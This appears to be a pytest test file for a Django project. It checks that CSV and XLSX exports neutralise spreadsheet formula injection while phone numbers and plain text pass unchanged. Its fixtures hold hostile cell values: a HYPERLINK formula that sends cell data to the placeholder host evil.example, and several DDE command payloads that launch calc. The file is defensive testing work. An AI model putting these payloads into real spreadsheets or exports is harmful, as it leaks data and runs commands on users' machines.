"""No cell of an essmap CSV or XLSX runs as a formula (issue 23, item 3; essmap/cells.py): a
leading apostrophe in CSV, string cells in XLSX; plain numbers and phones left as they are."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from bulk.files import export_file, import_dataset, read_file
from bulk.resources import StructureResource
from bulk.results import problems_of
from essmap.cells import csv_text, csv_value, may_run
from essmap.http import csv_response
from programmes.models import Structure
from tests.conftest import make_programme, make_structure

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&B2,"Cliquez ici")'


@pytest.mark.parametrize(
    "text",
    [
        HOSTILE,
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=1",
        "-",
        "+ 33 abc",
    ],
)
def test_what_could_run_gets_an_apostrophe(text):
    assert may_run(text)
    assert csv_text(text) == "'" + text
    assert csv_value(csv_text(text)) == text


@pytest.mark.parametrize(
    "text",
    [
        "+33123456789",
        "+33 1 23 45 67 89",
        "+33 (0)1 23 45 67 89",
        "-0.61",
        "-0,61",
        "-12",
        "Coopérative = avenir",
        "L’@telier",
        "",
        "'texte",
    ],
)
def test_plain_numbers_phones_and_text_are_left_as_they_are(text):
    assert not may_run(text)
    assert csv_text(text) == text
    assert csv_value(text) == text


@pytest.mark.parametrize("text", ["'=1+1", "''@A1", "'-x"])
def test_apostrophes_before_a_formula_come_back_whole(text):
    assert csv_text(text) == "'" + text
    assert csv_value(csv_text(text)) == text


def rows_of(response):
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def test_csv_response_neutralises_every_kind_of_cell():
    response = csv_response(
        "essai",
        ["name", "tags", "contact", "phone", "lat"],
        [
            {
                "name": HOSTILE,
                "tags": ["@SUM(A1)", "ok"],
                "contact": {"text": "+cmd|' /C calc'!A0"},
                "phone": "+33240000000",
                "lat": -0.61,
            }
        ],
    )
    [row] = rows_of(response)
    assert row == {
        "name": "'" + HOSTILE,
        "tags": "'@SUM(A1) | ok",
        "contact": "'+cmd|' /C calc'!A0",
        "phone": "+33240000000",
        "lat": "-0.61",
    }


@pytest.fixture
def hostile(territories):
    structure = make_structure(
        HOSTILE,
        slug="hostile",
        territories=[territories["dep53"]],
        phone="+33240000000",
        description="-2+3+cmd|' /C calc'!A0",
    )
    programme = make_programme(
        "@SUM(1+1)*cmd|' /C calc'!A0",
        slug="hostile-dispositif",
        operators=[structure],
        territories=[territories["dep53"]],
    )
    return structure, programme


def test_public_lists_csv(client, hostile):
    [structure] = rows_of(client.get("/structures/?format=csv"))
    assert structure["name"] == "'" + HOSTILE
    assert structure["phone"] == "02 40 00 00 00"
    [programme] = rows_of(client.get("/programmes/?format=csv"))
    assert programme["name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_selection_csv(client, hostile):
    structure, programme = hostile
    response = client.get(f"/selection/?d={programme.slug}&s={structure.slug}&format=csv")
    names = sorted(row["name"] for row in rows_of(response))
    assert names == ["'" + HOSTILE, "'@SUM(1+1)*cmd|' /C calc'!A0"]


def test_json_is_unchanged(client, hostile):
    result = client.get("/structures/?format=json").json()["results"][0]
    assert result["name"] == HOSTILE


def formulas(content):
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    return [cell.value for cell in cells if cell.data_type == "f"], cells


def test_data_inclusion_xlsx_has_string_cells_only(client, hostile):
    found, cells = formulas(client.get("/donnees/data-inclusion.xlsx").content)
    assert found == []
    assert HOSTILE in [cell.value for cell in cells]  # whole, without an apostrophe


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_bulk_export_neutralises_and_imports_back_whole(hostile, tmp_path, file_format):
    content = export_file("structures", file_format)
    if file_format == "csv":
        assert f"'{HOSTILE}".replace('"', '""') in content.decode("utf-8")
        assert ";+33 2 40 00 00 00;" in content.decode("utf-8")  # a phone, left as it is
    else:
        found, cells = formulas(content)
        assert found == []
        assert HOSTILE in [cell.value for cell in cells]
    path = tmp_path / f"structures.{file_format}"
    path.write_bytes(content)
    Structure.objects.filter(slug="hostile").update(name="Renommée")
    result = import_dataset("structures", read_file(path))
    assert result.accepted, problems_of(result)
    assert Structure.objects.get(slug="hostile").name == HOSTILE


def test_admin_xlsx_export_has_no_formula(admin_client, hostile):
    fields = {f"structureresource_{name}": "on" for name in StructureResource().get_export_order()}
    response = admin_client.post(
        reverse("admin:programmes_structure_export"), {"resource": "0", "format": "1", **fields}
    )
    assert response.status_code == 200
    found, cells = formulas(response.content)
    assert found == []
    assert HOSTILE in [cell.value for cell in cells]
